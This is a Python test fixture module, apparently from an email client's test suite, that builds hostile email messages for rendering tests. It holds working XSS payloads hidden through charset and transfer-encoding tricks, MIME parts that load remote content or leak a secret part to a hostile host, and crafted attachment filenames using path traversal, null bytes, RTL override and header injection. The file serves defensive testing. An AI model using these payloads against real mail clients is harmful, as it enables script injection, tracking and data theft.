"""Whole messages made to run a script or to fetch something: by their encoding, their parts or their header fields."""

import base64

from tests.console.hostile import HOST

_RUN = "parent.hacked=1;alert(1)"
_SCRIPT = f"<script>{_RUN}</script><img src='{HOST}/m' onerror='{_RUN}'>"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><image href="{HOST}/m"/></svg>'
_ONE_LINE = base64.b64encode(_SVG.encode()).decode()


def _html(content: bytes, kind: str, *fields: str) -> bytes:
    head = ("From: x@example.com", "Subject: s", "MIME-Version: 1.0", f"Content-Type: {kind}", *fields)
    return "\r\n".join(head).encode() + b"\r\n\r\n" + content


def _parts(kind: str, *parts: str) -> bytes:
    inner = "".join(f"--b\r\n{part}\r\n" for part in parts)
    return _html(f"{inner}--b--\r\n".encode(), f'multipart/{kind}; boundary="b"')


def _related(html: str, *fields: str, content: str = _ONE_LINE) -> bytes:
    picture = "\r\n".join((*fields, "Content-Transfer-Encoding: base64", "", content))
    return _parts("related", f"Content-Type: text/html\r\n\r\n{html}", picture)


_ENCODED = [
    _html(_SCRIPT.encode("utf-7"), "text/html; charset=utf-7"),
    _html(b"+ADw-script+AD4-" + _RUN.encode() + b"+ADw-/script+AD4-", 'text/html; charset="us-ascii"'),
    _html(
        b"<p title='\x1b$B'>\x1b(B onfocus=" + _RUN.encode() + b" autofocus tabindex=1 '>",
        "text/html; charset=iso-2022-jp",
    ),
    _html(b"<p title='\x1b(J\x5c'>" + _SCRIPT.encode() + b"'>", "text/html; charset=iso-2022-jp"),
    _html(b"<p title='~{'>" + _SCRIPT.encode() + b"~}'>", "text/html; charset=hz-gb-2312"),
    _html(_SCRIPT.encode("utf-16"), "text/html; charset=utf-8"),
    _html(_SCRIPT.encode("utf-16-le"), "text/html; charset=utf-16le"),
    _html(_SCRIPT.encode("utf-32"), "text/html; charset=utf-32"),
    _html(_SCRIPT.encode("cp037"), "text/html; charset=cp037"),
    _html(_SCRIPT.replace("<", "\\x3c").encode(), "text/html; charset=unicode_escape"),
    _html(b"\x80<p title='\xe0'>" + _SCRIPT.encode() + b"'>", "text/html; charset=shift_jis"),
    _html(b"<meta charset=utf-7>+ADw-script+AD4-" + _RUN.encode(), "text/html"),
    _html(b"\xfe\xff" + _SCRIPT.encode("utf-16-be"), "text/html; charset=x-user-defined"),
    _html(
        base64.b64encode(_SCRIPT.encode()),
        "text/html; charset*=utf-8'en'utf-8",
        "Content-Transfer-Encoding: base64",
    ),
    _html(_SCRIPT.replace("<", "=3C").encode(), "Text/HTML", "Content-Transfer-Encoding: Quoted-Printable"),
]
_CARRIED = [
    _related("<img src='cid:a'>", "Content-Type: image/svg+xml", "Content-ID: <a>"),
    _related("<img src='cid:a'><object data='cid:a'></object>", "Content-Type: image/png", "Content-ID: <a>"),
    _related("<iframe src='cid:a'></iframe>", "Content-Type: text/html", "Content-ID: <a>"),
    _related(
        "<img src='cid:a'>",
        f"Content-Type: image/png; x=\"' onerror='{_RUN}\"",
        f"Content-ID: <a' onerror='{_RUN}>",
    ),
    _related("<img src=cid:a>", "Content-Type: image/png", "Content-ID: <a>", f"Content-Location: {HOST}/m"),
    _related(
        f"<img src='cid:{HOST}/m'><img src='CID:..%2f..%2fm'>",
        "Content-Type: image/png",
        f"Content-ID: <{HOST}/m>",
    ),
    _related(
        "<link rel=stylesheet href='cid:a'><style>@import 'cid:a';</style>",
        "Content-Type: text/css",
        "Content-ID: <a>",
    ),
    _related(
        f"<img src='mid:1/2'><img src='{HOST}/m.png'>",
        "Content-Type: image/png",
        f"Content-Location: {HOST}/m.png",
    ),
    _html(b"<img src='m'>", "text/html", f"Content-Base: {HOST}/", f"Content-Location: {HOST}/m"),
    _parts(
        "mixed",
        f'Content-Type: message/external-body; access-type=URL; URL="{HOST}/m"\r\n\r\nContent-Type: text/html',
    ),
    _parts(
        "mixed",
        f"Content-Type: text/html\r\n\r\n<img src='{HOST}/m?",
        "Content-Type: text/plain\r\n\r\nsecret",
        "Content-Type: text/html\r\n\r\n'>",
    ),
    _parts(
        "mixed",
        f"Content-Type: message/rfc822\r\n\r\nSubject: {_SCRIPT}\r\nContent-Type: text/html\r\n\r\n{_SCRIPT}",
    ),
    _parts(
        "alternative",
        "Content-Type: text/plain\r\n\r\nx",
        f"Content-Type: text/x-amp-html\r\n\r\n<html amp4email><amp-img src='{HOST}/m'></amp-img>{_SCRIPT}",
    ),
    _parts(
        "alternative",
        "Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r"
        f"\nATTACH:{HOST}/m\r\nURL:javascript:{_RUN}\r\nX-ALT-DESC;FMTTYPE=text/html:{_SCRIPT}\r"
        "\nEND:VEVENT\r\nEND:VCALENDAR",
        f"Content-Type: text/html\r\n\r\n{_SCRIPT}",
    ),
    _parts(
        "mixed",
        f"Content-Type: text/vcard\r\n\r\nBEGIN:VCARD\r\nPHOTO:{HOST}/m\r\nEND:VCARD",
        f"Content-Type: application/xhtml+xml\r\n\r\n{_SCRIPT}",
    ),
    _html(
        _SCRIPT.encode(),
        "text/html",
        "Refresh: 0;url=" + HOST,
        f"Link: <{HOST}/>; rel=preconnect",
        "BIMI-Location: v=BIMI1; l=" + HOST,
        f"Content-Security-Policy: default-src *; report-uri {HOST}",
        f"List-Unsubscribe: <{HOST}/m>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "Disposition-Notification-To: x@evil.example",
        f"Archived-At: <{HOST}/m>",
        f"X-Face-URL: {HOST}/m",
    ),
]
FILE_NAMES = [
    'filename="\u202egpj.exe"',
    'filename="../../../etc/passwd"',
    'filename="..\\..\\x.html"',
    'filename="C:\\x.html"',
    'filename=".htaccess"',
    'filename="a.html\x00.png"',
    "filename*=utf-8''..%2F..%2Fx%0D%0ASet-Cookie:%20a=b.html",
    "filename*0*=utf-8'en'%22%3B%20filename%3D; filename*1=\"x.svg\"",
    'filename="=?utf-8?q?=22=0D=0AContent-Type=3A_text=2Fhtml?="',
    f'filename="<img src={HOST}/m onerror={_RUN}>.html"',
    f'filename="{"a" * 3000}.html"',
    'filename="\u2066\u200b\u2028.svg\u2069"',
]
_NAMED = [
    _parts(
        "mixed",
        *(
            f"Content-Type: {kind}\r\nContent-Disposition: attachment; {name}\r\n\r\n{_SCRIPT}"
            for kind in ("text/html", "image/svg+xml")
        ),
    )
    for name in FILE_NAMES
]
MAILS = [*_ENCODED, *_CARRIED, *_NAMED]
